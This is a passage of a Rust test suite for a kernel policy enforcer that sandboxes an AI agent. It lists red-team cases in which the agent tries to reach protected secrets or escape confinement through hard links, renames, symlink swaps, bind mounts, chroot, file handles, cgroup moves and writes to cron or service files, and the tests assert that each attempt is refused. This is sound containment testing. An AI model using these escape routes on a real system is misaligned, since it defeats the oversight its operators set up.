         \x20 - {{ id: system, file: {{ prefix: /, access: [write, create, truncate] }}, verdict: block, reason: writes stay in the workspace }}\n\
         \x20 - {{ id: workspace, file: {{ prefix: {w} }}, verdict: allow, reason: the agent's workspace }}\n\
         \x20 - {{ id: tmp, file: {{ prefix: /tmp }}, verdict: allow, reason: temporary files }}\n\
         \x20 - {{ id: devnull, file: {{ path: /dev/null }}, verdict: allow, reason: output thrown away }}\n\
         \x20 - {{ id: shm, file: {{ prefix: /dev/shm }}, verdict: allow, reason: POSIX semaphores and shared memory }}\n\
         \x20 - {{ id: secrets, file: {{ prefix: {s} }}, verdict: block, reason: credentials }}\n\
         \x20 - {{ id: loopback, network: {{ cidr: [127.0.0.0/8, '::1/128'] }}, verdict: allow, reason: local services }}\n",
        agent = fx.agent.rel.display(),
    );
    let mut k = install(&policy);
    for hook in [
        "bprm_check_security",
        "file_open",
        "connect4",
        "connect6",
        "sendmsg4",
        "sendmsg6",
    ] {
        k.require(hook);
    }
    // The programs are shared with the tests before this one (see `install`): their counters
    // carry on.
    let denials_before = k.enforcer.counter(Counter::Denials).unwrap();

    // Each step runs in the agent, in the project, with a plain developer environment. It must
    // exit 0, and the kernel must have refused nothing while it ran; it returns its output and
    // the exec decisions taken for it.
    let python_rule = k.rule(1);
    let mut work = |step: &str, program: &str, args: &[&str]| -> (String, Vec<Event>) {
        let started = std::time::Instant::now();
        let out = governance_tests::command_in(Some(&fx.agent.path), program, args)
            .current_dir(&project)
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .env("HOME", &ws)
            .env("TMPDIR", "/tmp")
            .env("LANG", "C.UTF-8")
            .output()
            .unwrap_or_else(|e| panic!("{step}: starting {program}: {e}"));
        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
        let stderr = String::from_utf8_lossy(&out.stderr);
        // Drain the ring (every open is reported): keep the refusals and the execs.
        let seen = std::cell::RefCell::new((Vec::new(), Vec::new()));
        k.try_event_where(Duration::ZERO, |ev| {
            let mut seen = seen.borrow_mut();
            if ev.flags & flags::DENIED != 0 {
                seen.0.push(format!(
                    "{:?} by {} ({:?}, rule {:#x}): {} detail {:#x} port {}",
                    Kind::from_u8(ev.kind),
                    text(&ev.comm),
                    Cause::from_u8(ev.cause),
                    ev.rule_id,
                    text(&ev.path),
                    ev.detail,
                    ev.port
                ));
            }
            if Kind::from_u8(ev.kind) == Some(Kind::Exec) {
                seen.1.push(*ev);
            }
            false
        });
        let (denied, execs) = seen.into_inner();
        // (A script given with -c shows as its first line.)
        let command: Vec<&str> = std::iter::once(program)
            .chain(
                args.iter()
                    .map(|a| a.trim_start().lines().next().unwrap_or("")),
            )
            .collect();
        assert!(
            out.status.success() && denied.is_empty(),
            "{step}: `{}` {}; the kernel refused: {denied:#?}\n--- stdout\n{stdout}--- stderr\n{stderr}",
            command.join(" "),
            out.status,
        );
        println!("work: {step} ok ({:.1?})", started.elapsed());
        for line in stdout.lines() {
            println!("  {line}");
        }
        (stdout, execs)
    };

    // Python: the standard library's C extension modules, a subprocess, a pool of two, asyncio,
    // Unix and loopback TCP sockets, a temp file.
    let (out, _) = work("python3 stdlib", "/usr/bin/python3", &["-c", PYTHON_WORK]);
    for line in [
        "sqlite+json: 42",
        "ssl: OpenSSL",
        "subprocess: from a child",
        "pool: 285",
        "asyncio: 3",
        "unix socket: ping",
        "loopback: ping",
        "tempfile: True scratch",
    ] {
        assert!(out.contains(line), "python3 stdlib: no {line:?} in:\n{out}");
    }
    // A venv in the workspace, and pip installing a wheel built on the spot, offline.
    let venv = [
        "-m",
        "venv",
        "--system-site-packages",
        "--without-pip",
        "venv",
    ];
    work("python3 -m venv", "/usr/bin/python3", &venv);
    let venv_python = project.join("venv/bin/python");
    let link = std::fs::symlink_metadata(&venv_python).unwrap();
    assert!(link.file_type().is_symlink(), "the venv's python: {link:?}");
    let venv_python = venv_python.to_str().unwrap();
    let wheel = "dist/greeting-1.0-py3-none-any.whl";
    work(
        "build a wheel",
        "/usr/bin/python3",
        &["-c", MAKE_WHEEL, wheel],
    );
    let pip = ["-m", "pip", "install", "--no-index", wheel];
    let (out, _) = work("pip install (offline)", venv_python, &pip);
    assert!(out.contains("Successfully installed greeting-1.0"), "{out}");
    let import = "import greeting, sys; print(greeting.hello(), sys.prefix != sys.base_prefix, greeting.__file__)";
    let (out, execs) = work("import from the venv", venv_python, &["-c", import]);
    assert!(
        out.starts_with("hello from a wheel True ")
            && out.contains("/project/venv/lib/python3.11/site-packages/greeting.py"),
        "{out}"
    );
    // The venv's interpreter is a symlink: the python3 rule allowed it, by the file's identity.
    assert!(
        execs.iter().any(|ev| ev.rule_id == python_rule),
        "the venv's python was not allowed by the python3 rule: {:?}",
        execs
            .iter()
            .map(|ev| (text(&ev.path), ev.rule_id))
            .collect::<Vec<_>>()
    );

    // The shell: a pipeline, then redirections, mv, ln and a temp file.
    let pipeline = "ls / | grep -c bin | wc -l";
    let (out, _) = work("sh pipeline", "/bin/sh", &["-c", pipeline]);
    assert_eq!(out.trim(), "1");
    let (out, _) = work("sh script", "/bin/sh", &["-c", SHELL_WORK]);
    assert_eq!(
        out,
        "appended: one two \ntruncated: three\nlinks: three three 2\ntmp: /tmp scratch\ndone\n"
    );

    // git: init, add, commit, log, in the workspace (the venv, the wheel and the database are
    // ignored).
    let (out, _) = work("git init", "/usr/bin/git", &["init", "-b", "main"]);
    assert!(out.contains("Initialized empty Git repository"), "{out}");
    work("git add", "/usr/bin/git", &["add", "."]);
    let commit = [
        "-c",
        "user.name=Agent",
        "-c",
        "user.email=agent@example.com",
        "commit",
        "-q",
        "-m",
        "Notes and links",
    ];
    work("git commit", "/usr/bin/git", &commit);
    let log = ["log", "--format=%an %s", "--name-only"];
    let (out, _) = work("git log", "/usr/bin/git", &log);
    assert_eq!(
        out,
        "Agent Notes and links\n\n.gitignore\ndocs/hardlink.txt\ndocs/notes.txt\ndocs/symlink.txt\n"
    );
    let (out, _) = work("git status", "/usr/bin/git", &["status", "--porcelain"]);
    assert_eq!(out, "", "a clean tree");
    // Nothing was refused, even silently (a tool that shrugs off an EPERM, an event the ring
    // had no room for).
    assert_eq!(
        k.enforcer.counter(Counter::Denials).unwrap(),
        denials_before
    );

    // The same policy, in the same run, still refuses what it is there to refuse.
    deny(
        &mut k,
        &fx,
        "legit: read a file under secrets",
        &Attempt::open(&secrets.join("api-key"), libc::O_RDONLY),
        Kind::File,
        Control::Succeeds,
    );
    deny(
        &mut k,
        &fx,
        "legit: connect off loopback",
        &Attempt::connect(SocketAddr::V4(SocketAddrV4::new(
            Ipv4Addr::new(192, 0, 2, 1),
            443,
        ))),
        Kind::Connect,
        Control::NotEperm,
    );
    deny(
        &mut k,
        &fx,
        "legit: exec a binary off the allow-list",
        &Attempt::exec(&ws.join("bin/true"), "true"),
        Kind::Exec,
        Control::Succeeds,
    );
    deny(
        &mut k,
        &fx,
        "legit: write outside the workspace",
        &Attempt::write(&system_file, "setting=2\n"),
        Kind::File,
        Control::Succeeds,
    );
}

/// An attempt that must pass in the agent without a refusal (links and renames of unprotected
/// objects are not reported: nothing was at stake).
fn passes(k: &mut Loaded, fx: &Fixture, case: &str, attempt: &Attempt) {
    let (pid, outcome) = run_in(Some(&fx.agent.path), "agent", attempt);
    assert_eq!(outcome, Outcome::Exited(0), "{case}: allowed in the agent");
    assert!(
        k.try_event_where(Duration::from_millis(100), |e| e.tgid == pid
            && e.flags & flags::DENIED != 0)
            .is_none(),
        "{case}: nothing refused"
    );
}

/// Red-team cases 22-26: a file has many names. File rules decide on the object (its identity
/// and the identity of the directories above it), so another name for the same object (a hard
/// link, a renamed directory, a bind mount, another mount namespace, a chroot) reaches the same
/// rule; and an agent cannot make a name that would take a protected object out of its rule.
#[test]
fn names_cases() {
    require_root();
    let fx = Fixture::new("names");
    let rd = libc::O_RDONLY;
    // The state before the load: a hard link to a file in the protected directory (made by an
    // accomplice, or by the agent before it was governed), and the objects of the extra rules.
    std::fs::write(fx.p("secrets/linked"), "secret").unwrap();
    std::fs::hard_link(fx.p("secrets/linked"), fx.p("tmp/early-link")).unwrap();
    std::fs::write(fx.p("apikey.txt"), "key").unwrap();
    std::fs::create_dir_all(fx.p("vault")).unwrap();
    std::fs::write(fx.p("vault/doc"), "doc").unwrap();
    std::fs::create_dir_all(fx.p("outer/inner/deep")).unwrap();
    std::fs::write(fx.p("outer/inner/deep/f"), "deep").unwrap();
    // A rule's path through a symlink (as merged /usr's /bin is to /usr/bin).
    std::fs::create_dir_all(fx.p("link-target/inner")).unwrap();
    std::fs::write(fx.p("link-target/inner/doc"), "doc").unwrap();
    std::os::unix::fs::symlink(fx.p("link-target"), fx.p("via-link")).unwrap();
    // A chain (a dotfile manager's `~/.bashrc → ~/dotfiles/bashrc`, `~/dotfiles → ~/Sync/…`),
    // and a dangling link at a rule's path (its target's directory missing).
    std::fs::create_dir_all(fx.p("sync/dots")).unwrap();
    std::fs::write(fx.p("sync/dots/rc"), "rc").unwrap();
    std::os::unix::fs::symlink(fx.p("sync/dots"), fx.p("dots")).unwrap();
    std::os::unix::fs::symlink(fx.p("dots/rc"), fx.p("dot-rc")).unwrap();
    std::os::unix::fs::symlink(fx.p("not-made/rc"), fx.p("dangle-rc")).unwrap();
    for dir in [
        "tmp/ws/objects",
        "tmp/ws/sub",
        "tmp/bind-view",
        "tmp/ns-view",
        "tmp/own-view",
        "tmp/cg",
    ] {
        std::fs::create_dir_all(fx.p(dir)).unwrap();
    }
    // A second filesystem, with a protected directory and a hard link out of it made before
    // the load: the kernel walks a device only where its marker says an entry could answer,
    // so the compiler must mark each device that has entries, not only the first.
    let other = mount_point(&fx, "other-fs");
    mount_tmpfs(&other);
    for dir in ["locked", "open"] {
        std::fs::create_dir_all(other.join(dir)).unwrap();
    }
    std::fs::write(other.join("locked/doc"), "doc").unwrap();
    std::fs::write(other.join("open/plain"), "plain").unwrap();
    std::fs::hard_link(other.join("locked/doc"), other.join("open/doc-link")).unwrap();
    let d = fx.dir.display();
    let extra = format!(
        "\x20 - {{ id: apikey, file: {{ path: {d}/apikey.txt }}, verdict: block, reason: api key }}\n\
         \x20 - {{ id: vault, file: {{ prefix: {d}/vault }}, verdict: block, reason: vault }}\n\
         \x20 - {{ id: deep, file: {{ prefix: {d}/outer/inner/deep }}, verdict: block, reason: deep }}\n\
         \x20 - {{ id: other-fs, file: {{ prefix: {d}/other-fs/locked }}, verdict: block, reason: other filesystem }}\n\
         \x20 - {{ id: linked, file: {{ prefix: {d}/via-link/inner }}, verdict: block, reason: through a symlink }}\n\
         \x20 - {{ id: chained, file: {{ path: {d}/dot-rc }}, verdict: block, reason: through a chain of symlinks }}\n\
         \x20 - {{ id: dangling, file: {{ path: {d}/dangle-rc }}, verdict: block, reason: through a dangling symlink }}\n\
         kernel: {{ allow_capabilities: [CAP_SYS_ADMIN, CAP_SYS_CHROOT, CAP_DAC_READ_SEARCH], allow_mounts: true }}\n"
    );
    // The agent gets back what the views it makes need (chroot, its own mounts, opens by
    // handle): the identity rules, not the capability refusals, are what this test is about.
    let mut k = fx.load(&extra);
    k.require("inode_link");
    k.require("inode_rename");
    let (secrets, readonly) = (k.rule(6), k.rule(7));
    let (apikey, vault, deep, other_fs) = (k.rule(14), k.rule(15), k.rule(16), k.rule(17));
    let (linked, chained, dangling) = (k.rule(18), k.rule(19), k.rule(20));

    /// An open refused in the agent by `rule`, through `path`, a name no path rule names.
    fn denied_open(k: &mut Loaded, fx: &Fixture, case: &str, path: &Path, rule: u32) -> Event {
        let ev = deny(
            k,
            fx,
            case,
            &Attempt::open(path, libc::O_RDONLY),
            Kind::File,
            Control::Succeeds,
        );
        assert_eq!(ev.rule_id, rule, "{case}: rule");
        assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Rule), "{case}: cause");
        ev
    }
    /// A link or rename refused in the agent by `rule`.
    fn denied_name(k: &mut Loaded, fx: &Fixture, case: &str, attempt: &Attempt, rule: u32, op: u8) {
        let ev = deny(k, fx, case, attempt, Kind::Link, Control::Succeeds);
        assert_eq!(ev.rule_id, rule, "{case}: rule");
        assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Rule), "{case}: cause");
        assert_eq!(ev.detail, op, "{case}: link or rename");
    }
    let (link_op, rename_op) = (
        governance_common::LINK_OP_LINK,
        governance_common::LINK_OP_RENAME,
    );

    // 22. Hard links: one made before the load, opened by its other name (the file had two
    // names at load, so it carries the directory's rule itself).
    let early = fx.p("tmp/early-link");
    let ev = denied_open(
        &mut k,
        &fx,
        "22 hard link made before the load",
        &early,
        secrets,
    );
    assert_eq!(
        text(&ev.path),
        early.to_str().unwrap(),
        "the name the agent used"
    );
    // One made from outside after the load, to a file with a rule of its own.
    let apikey_link = fx.p("tmp/apikey-link");
    std::fs::hard_link(fx.p("apikey.txt"), &apikey_link).unwrap();
    let ev = denied_open(
        &mut k,
        &fx,
        "22 hard link made from outside after the load",
        &apikey_link,
        apikey,
    );
    assert_eq!(text(&ev.path), apikey_link.to_str().unwrap());
    // The agent making one: of a protected file, and of a file made in the protected
    // directory after the load (its directory decides).
    denied_name(
        &mut k,
        &fx,
        "22 agent hard-links a protected file out",
        &Attempt::link(&fx.p("secrets/key"), &fx.p("tmp/agent-link")),
        secrets,
        link_op,
    );
    std::fs::write(fx.p("secrets/late"), "made after the load").unwrap();
    denied_name(
        &mut k,
        &fx,
        "22 agent hard-links a file made in the protected directory after the load",
        &Attempt::link(&fx.p("secrets/late"), &fx.p("tmp/late-link")),
        secrets,
        link_op,
    );
    // ... and of a file protected by its own rule, even in its own directory.
    denied_name(
        &mut k,
        &fx,
        "22 agent hard-links a file with its own rule",
        &Attempt::link(&fx.p("apikey.txt"), &fx.p("apikey-2.txt")),
        apikey,
        link_op,
    );

    // 23. Renames: a protected directory renamed from outside, the file opened by its new path.
    std::fs::rename(fx.p("vault"), fx.p("tmp/vault-moved")).unwrap();
    let moved = fx.p("tmp/vault-moved/doc");
    let ev = denied_open(
        &mut k,
        &fx,
        "23 ancestor directory renamed from outside",
        &moved,
        vault,
    );
    assert_eq!(text(&ev.path), moved.to_str().unwrap());
    std::fs::rename(fx.p("tmp/vault-moved"), fx.p("vault")).unwrap();
    // ... and a directory further up.
    std::fs::rename(fx.p("outer"), fx.p("tmp/outer-moved")).unwrap();
    let moved = fx.p("tmp/outer-moved/inner/deep/f");
    let ev = denied_open(
        &mut k,
        &fx,
        "23 a directory further up renamed from outside",
        &moved,
        deep,
    );
    assert_eq!(text(&ev.path), moved.to_str().unwrap());
    std::fs::rename(fx.p("tmp/outer-moved"), fx.p("outer")).unwrap();
    // The agent renaming it (away, or in place: the next generation would not find it at its
    // rule's path), or moving a protected file out. Each control moved it; it goes back.
    for (case, from, to, rule) in [
        (
            "23 agent renames a protected directory away",
            "vault",
            "tmp/vault-away",
            vault,
        ),
        (
            "23 agent renames a protected directory in place",
            "vault",
            "vault-2",
            vault,
        ),
        (
            "23 agent moves a file out of a protected directory",
            "secrets/key",
            "tmp/key-out",
            secrets,
        ),
        (
            "23 agent renames a file with its own rule",
            "apikey.txt",
            "apikey-old.txt",
            apikey,
        ),
        (
            "23 agent renames a directory above a protected one in place",
            "outer/inner",
            "outer/inner-2",
            deep,
        ),
        (
            "23 agent moves a directory above a protected one away",
            "outer",
            "tmp/outer-away",
            deep,
        ),
    ] {
        denied_name(
            &mut k,
            &fx,
            case,
            &Attempt::rename(&fx.p(from), &fx.p(to)),
            rule,
            rename_op,
        );
        std::fs::rename(fx.p(to), fx.p(from)).unwrap();
    }
    // A symlink on the way to a rule's path: renamed, replaced or removed, the rule's path
    // would name something else (red team round 11: `mv -T /tmp/evil /bin` on merged /usr).
    // The control renames it away and back; replacing and removing are controlled on a symlink
    // no rule's path goes through, then, last, on this one.
    denied_name(
        &mut k,
        &fx,
        "23 agent renames a symlink on a rule's path away",
        &Attempt::rename(&fx.p("via-link"), &fx.p("tmp/via-away")),
        linked,
        rename_op,
    );
    std::fs::rename(fx.p("tmp/via-away"), fx.p("via-link")).unwrap();
    let evil = fx.p("tmp/evil-target");
    std::fs::create_dir_all(evil.join("inner")).unwrap();
    let plain = fx.p("tmp/plain-link");
    for (case, attempt, unruled, op) in [
        (
            "23 agent replaces a symlink on a rule's path",
            Attempt::rename(&fx.p("tmp/evil-link"), &fx.p("via-link")),
            Attempt::rename(&fx.p("tmp/evil-link"), &plain),
            rename_op,
        ),
        (
            "23 agent removes a symlink on a rule's path",
            Attempt::Unlink {
                path: cstr(&fx.p("via-link")),
            },
            Attempt::Unlink { path: cstr(&plain) },
            governance_common::LINK_OP_UNLINK,
        ),
    ] {
        for link in [fx.p("tmp/evil-link"), plain.clone()] {
            let _ = std::fs::remove_file(&link);
            std::os::unix::fs::symlink(&evil, &link).unwrap();
        }
        println!("redteam: tried {case}");
        let (pid, outcome) = run_in(Some(&fx.agent.path), "agent", &attempt);
        assert_eq!(outcome, Outcome::Errno(libc::EPERM), "{case}");
        let ev = k.event_where(|e| e.tgid == pid && e.flags & flags::DENIED != 0);
        assert_eq!(Kind::from_u8(ev.kind), Some(Kind::Link), "{case}: kind");
        assert_eq!((ev.rule_id, ev.detail), (linked, op), "{case}: rule and op");
        assert_eq!(
            std::fs::read_link(fx.p("via-link")).unwrap(),
            fx.p("link-target"),
            "{case}: the link still points where it did"
        );
        println!("redteam: denied {case}");
        let (_, outcome) = run_in(Some(&fx.agent.path), "agent", &unruled);
        assert_eq!(
            outcome,
            Outcome::Exited(0),
            "{case}: a symlink no rule uses"
        );
        println!("redteam: control {case}");
    }
    let (_, outcome) = run_in(
        Some(&fx.outsider.path),
        "outsider",
        &Attempt::Unlink {
            path: cstr(&fx.p("via-link")),
        },
    );
    assert_eq!(
        outcome,
        Outcome::Exited(0),
        "control: removed outside the agent"
    );
    // A chain's middle link is held too (red team round 12): replaced, `dot-rc` would lead
    // into the agent's directory. The control renames it away and back.
    denied_name(
        &mut k,
        &fx,
        "23 agent renames the middle link of a chain on a rule's path away",
        &Attempt::rename(&fx.p("dots"), &fx.p("tmp/dots-away")),
        chained,
        rename_op,
    );
    std::fs::rename(fx.p("tmp/dots-away"), fx.p("dots")).unwrap();
    // A dangling link at a rule's path: the directory it leads into may not be made, and what
    // an open through it would create is the rule's (red team round 12: the agent made the
    // directory and wrote through the link to a path no rule named). The control makes the
    // directory; then the agent's write through the link is refused by the rule's path.
    let ev = deny(
        &mut k,
        &fx,
        "23 agent makes the directory a dangling link on a rule's path leads into",
        &Attempt::Mkdir {
            path: cstr(&fx.p("not-made")),
        },
        Kind::Link,
        Control::Succeeds,
    );
    assert_eq!(ev.rule_id, dangling);
    let ev = deny(
        &mut k,
        &fx,
        "23 agent writes through a dangling link on a rule's path",
        &Attempt::Open {
            path: cstr(&fx.p("dangle-rc")),
            flags: libc::O_WRONLY | libc::O_CREAT,
        },
        Kind::File,
        Control::Succeeds,
    );
    assert_eq!(ev.rule_id, dangling);

    // 24. Views: a bind mount of the protected directory made outside (a file made in it after
    // the load too), another mount namespace's view through /proc/PID/root, a chroot, and the
    // agent's own mounts (as root it may mount, in a namespace of its own).
    let view = fx.p("tmp/bind-view");
    let (src, dst) = (cstr(&fx.p("secrets")), cstr(&view));
    // SAFETY: plain mount(2) with NUL-terminated strings.
    let r = unsafe {
        libc::mount(
            src.as_ptr(),
            dst.as_ptr(),
            std::ptr::null(),
            libc::MS_BIND,
            std::ptr::null(),
        )
    };
    assert_eq!(r, 0, "bind mount: {}", std::io::Error::last_os_error());
    let ev = denied_open(
        &mut k,
        &fx,
        "24 bind mount of the protected directory",
        &view.join("key"),
        secrets,
    );
    assert_eq!(text(&ev.path), view.join("key").to_str().unwrap());
    denied_open(
        &mut k,
        &fx,
        "24 bind mount, a file made after the load",
        &view.join("late"),
        secrets,
    );
    // SAFETY: as above.
    assert_eq!(unsafe { libc::umount2(dst.as_ptr(), 0) }, 0, "umount");
    {
        // Another process's mount namespace is reached through its /proc/PID/root, which is a
        // ptrace_may_access() check: a process outside the agent is out of its reach before
        // the identity rules would decide (EACCES from procfs).
        let ns = governance_tests::MountNsView::new(&fx.p("secrets"), &fx.p("tmp/ns-view"));
        let path = ns.path(&fx.p("tmp/ns-view/key"));
        deny_errno(
            &mut k,
            &fx,
            "24 another mount namespace's view",
            &Attempt::open(&path, libc::O_RDONLY),
            libc::EACCES,
            Kind::Ptrace,
            Control::Succeeds,
        );
    }
    let ev = deny(
        &mut k,
        &fx,
        "24 chroot view",
        &Attempt::ChrootOpen {
            root: cstr(&fx.dir),
            path: c"/secrets/key".into(),
            flags: rd,
        },
        Kind::File,
        Control::Succeeds,
    );
    assert_eq!(
        (ev.rule_id, text(&ev.path).as_str()),
        (secrets, "/secrets/key")
    );
    let ev = deny(
        &mut k,
        &fx,
        "24 agent bind-mounts the protected directory itself",
        &Attempt::MountOpen {
            source: cstr(&fx.p("secrets")),
            target: cstr(&fx.p("tmp/own-view")),
            fstype: c"".into(),
            mount_flags: libc::MS_BIND,
            path: cstr(&fx.p("tmp/own-view/key")),
            flags: rd,
        },
        Kind::File,
        Control::Succeeds,
    );
    assert_eq!(ev.rule_id, secrets);
    // A second cgroup2 mount, to move out through another cgroup's cgroup.procs: the
    // built-in protection of the cgroup tree holds by identity too.
    let procs = fx.p("tmp/cg").join(&fx.outsider.rel).join("cgroup.procs");
    let ev = deny(
        &mut k,
        &fx,
        "24 agent mounts cgroup2 again and opens another cgroup's cgroup.procs",
        &Attempt::MountOpen {
            source: c"none".into(),
            target: cstr(&fx.p("tmp/cg")),
            fstype: c"cgroup2".into(),
            mount_flags: 0,
            path: cstr(&procs),
            flags: libc::O_WRONLY,
        },
        Kind::File,
        Control::Succeeds,
    );
    assert_eq!(
        (
            governance_common::id_number(ev.rule_id),
            Cause::from_u8(ev.cause)
        ),
        (0, Some(Cause::Rule)),
        "the built-in protected path"
    );

    // Opens by file handle (open_by_handle_at; root has CAP_DAC_READ_SEARCH): no name at all.
    // On tmpfs the handle finds a dentry of the file, below its directory. (Not secrets/key:
    // the control above gave it a second name outside, and the handle may find that one.)
    deny(
        &mut k,
        &fx,
        "24 open_by_handle_at of a protected file",
        &Attempt::OpenByHandleAt {
            dir: cstr(&fx.dir),
            handle: governance_tests::file_handle(&fx.p("vault/doc")),
            flags: rd,
        },
        Kind::File,
        Control::Succeeds,
    );
    // Another cgroup's cgroup.procs by handle, to move out: refused whether the handle finds
    // the file's cached dentry (the walk reaches the cgroup root) or, its name evicted from
    // the cache (kernfs, like disks, drops unused dentries), builds one connected to nothing
    // (its directories are unknown: the open fails closed). The VM's dentries stay cached, so
    // this exercises the first.
    let handle = governance_tests::file_handle(&fx.outsider.path.join("cgroup.procs"));
    let ev = deny(
        &mut k,
        &fx,
        "24 open_by_handle_at of another cgroup's cgroup.procs",
        &Attempt::OpenByHandleAt {
            dir: cstr(&fx.agent.path),
            handle,
            flags: libc::O_WRONLY,
        },
        Kind::File,
        Control::Succeeds,
    );
    assert_eq!(
        (
            governance_common::id_number(ev.rule_id),
            Cause::from_u8(ev.cause)
        ),
        (0, Some(Cause::Rule)),
        "the built-in protected path"
    );

    // 25. Symlinks are resolved by the open: the object behind them decides.
    let sym = fx.p("tmp/ws/secrets-link");
    std::os::unix::fs::symlink(fx.p("secrets"), &sym).unwrap();
    let ev = denied_open(
        &mut k,
        &fx,
        "25 symlink to the protected directory",
        &sym.join("key"),
        secrets,
    );
    assert_eq!(text(&ev.path), fx.p("secrets/key").to_str().unwrap());

    // Legitimate work goes on: an editor's write-temp-and-rename, `mv` within a workspace,
    // git-like hard links, renaming over a file, all of unprotected objects.
    std::fs::write(fx.p("tmp/ws/file.tmp"), "draft").unwrap();
    std::fs::write(fx.p("tmp/ws/new.tmp"), "draft 2").unwrap();
    for (case, attempt) in [
        (
            "editor saves: rename the temporary file over the file",
            Attempt::rename(&fx.p("tmp/ws/file.tmp"), &fx.p("tmp/ws/file")),
        ),
        (
            "mv into another directory of the workspace",
            Attempt::rename(&fx.p("tmp/ws/file"), &fx.p("tmp/ws/sub/file")),
        ),
        (
            "git-like hard link of an unprotected object",
            Attempt::link(&fx.p("tmp/ws/sub/file"), &fx.p("tmp/ws/objects/ab12")),
        ),
        (
            "rename over an existing file elsewhere in the workspace",
            Attempt::rename(&fx.p("tmp/ws/new.tmp"), &fx.p("tmp/ws/sub/file")),
        ),
    ] {
        passes(&mut k, &fx, case, &attempt);
    }
    // A write-only rule through a hard link made outside: reading is fine, writing is not.
    let ro_link = fx.p("tmp/ro-link");
    std::fs::hard_link(fx.p("readonly.txt"), &ro_link).unwrap();
    let ev = allow(
        &mut k,
        &fx,
        "read of a write-protected file by another name",
        &Attempt::open(&ro_link, rd),
    );
    assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Default));
    let ev = deny(
        &mut k,
        &fx,
        "22 write of a write-protected file by another name",
        &Attempt::open(&ro_link, libc::O_WRONLY),
        Kind::File,
        Control::Succeeds,
    );
    assert_eq!(ev.rule_id, readonly);
    // A new name is a create in its directory, and a rename over a file replaces it: an agent
    // may not plant a file in the protected directory, rename within it, or replace a
    // write-protected file by renaming another over it.
    std::fs::write(fx.p("tmp/ws/replacement"), "not read only").unwrap();
    // The same on the second filesystem (its own device marker); beside it, a file no rule
    // protects opens.
    denied_open(
        &mut k,
        &fx,
        "22 hard link on a second filesystem",
        &other.join("open/doc-link"),
        other_fs,
    );
    passes(
        &mut k,
        &fx,
        "22 unprotected file on the second filesystem",
        &Attempt::open(&other.join("open/plain"), rd),
    );
    for (case, attempt, rule, op) in [
        (
            "23 agent links a file into the protected directory",
            Attempt::link(&fx.p("tmp/ws/objects/ab12"), &fx.p("secrets/planted")),
            secrets,
            link_op,
        ),
        (
            "23 agent renames a file within the protected directory",
            Attempt::rename(&fx.p("secrets/key"), &fx.p("secrets/key-2")),
            secrets,
            rename_op,
        ),
        (
            "23 agent renames a file over a write-protected one",
            Attempt::rename(&fx.p("tmp/ws/replacement"), &fx.p("readonly.txt")),
            readonly,
            rename_op,
        ),
    ] {
        denied_name(&mut k, &fx, case, &attempt, rule, op);
    }
    std::fs::rename(fx.p("secrets/key-2"), fx.p("secrets/key")).unwrap();

    // 26. Reloads resolve again. The protected file is replaced from outside (an editor
    // writes a new file and renames it over the old one), then hard-linked from outside: the
    // new generation knows the new file.
    std::fs::write(fx.p("apikey.new"), "new key").unwrap();
    std::fs::rename(fx.p("apikey.new"), fx.p("apikey.txt")).unwrap();
    // Meanwhile its path rule still applies.
    denied_open(
        &mut k,
        &fx,
        "26 replaced file, by its path",
        &fx.p("apikey.txt"),
        apikey,
    );
    k.reload(&fx.policy(&extra));
    let (secrets, apikey) = (k.rule(6), k.rule(14));
    let new_link = fx.p("tmp/apikey-new-link");
    std::fs::hard_link(fx.p("apikey.txt"), &new_link).unwrap();
    denied_open(
        &mut k,
        &fx,
        "26 replaced file, after the reload, by a new hard link",
        &new_link,
        apikey,
    );
    // A file made in the protected directory after the first load and hard-linked from
    // outside is known from the next generation on.
    let late_link = fx.p("tmp/late-outside-link");
    std::fs::hard_link(fx.p("secrets/late"), &late_link).unwrap();
    denied_open(
        &mut k,
        &fx,
        "26 file made after the load, hard-linked from outside, after the reload",
        &late_link,
        secrets,
    );
    drop(k);
    unmount(&other);
}

/// An object changed where it is, without an open: removed (`unlink`) or truncated
/// (`truncate(2)`), is decided on its identity rules, as a write (and a truncate); outside the
/// agent, and for what the rules leave writable, both work.
#[test]
fn unlink_and_truncate_are_decided_on_the_object() {
    require_root();
    let fx = Fixture::new("inplace");
    std::fs::write(fx.p("scratch/mine.txt"), "mine").unwrap();
    let mut k = fx.load("");
    for hook in ["unlink_protected", "path_truncate"] {
        k.require(hook);
    }
    let key = fx.p("secrets/key");
    let ev = deny(
        &mut k,
        &fx,
        "40 unlink a protected file",
        &Attempt::Unlink { path: cstr(&key) },
        Kind::Link,
        Control::Succeeds,
    );
    assert_eq!(ev.detail, governance_common::LINK_OP_UNLINK);
    std::fs::write(&key, "secret").unwrap();
    k.reload(&fx.policy(""));
    let ro = fx.p("readonly.txt");
    let ev = deny(
        &mut k,
        &fx,
        "40 truncate(2) a write-protected file",
        &Attempt::Truncate { path: cstr(&ro) },
        Kind::Link,
        Control::Succeeds,
    );
    assert_eq!(ev.detail, governance_common::LINK_OP_TRUNCATE);
    // What the rules leave writable stays the agent's.
    let mine = fx.p("scratch/mine.txt");
    for (case, attempt) in [
        (
            "truncate(2) of its own file",
            Attempt::Truncate { path: cstr(&mine) },
        ),
        (
            "unlink of its own file",
            Attempt::Unlink { path: cstr(&mine) },
        ),
    ] {
        let (_, outcome) = run_in(Some(&fx.agent.path), "agent", &attempt);
        assert_eq!(outcome, Outcome::Exited(0), "{case}");
    }
}

/// Issue 12, class 4 (processes outside the agent acting for it), by files: the node runs
/// what is written in its schedulers, service units, loader preload list, login files and
/// system directories as root, outside every agent (cron within a minute, the next login, the
/// next boot). A root agent may not write, create, truncate, remove or name anything there:
/// not by open, nor by a symlink (how a unit is enabled), a directory, a FIFO, a hard link, a
/// rename into it, truncate(2) or unlink. Reading stays allowed, and a policy with
/// `allow_system_files` gives it all back. Each refusal has its control outside the agent.
#[test]
fn system_files_are_refused() {
    require_root();
    let fx = Fixture::new("system");
    let made_local = !Path::new("/root/.local").exists();
    let made_cni = !Path::new("/opt/cni").exists();
    let made_containers = !Path::new("/var/lib/containers").exists();
    // modprobe's runtime configuration directory is made by the case (and its control), in
    // /run (which the VM's initramfs does not have).
    let made_run = !Path::new("/run").exists();
    std::fs::create_dir_all("/run").unwrap();
    let _ = std::fs::remove_dir_all("/run/modprobe.d");
    // Made before the load, outside the agent: the directories the cases write into, and the
    // files they truncate, remove, link and move (on the root filesystem: /tmp is its own).
    for dir in [
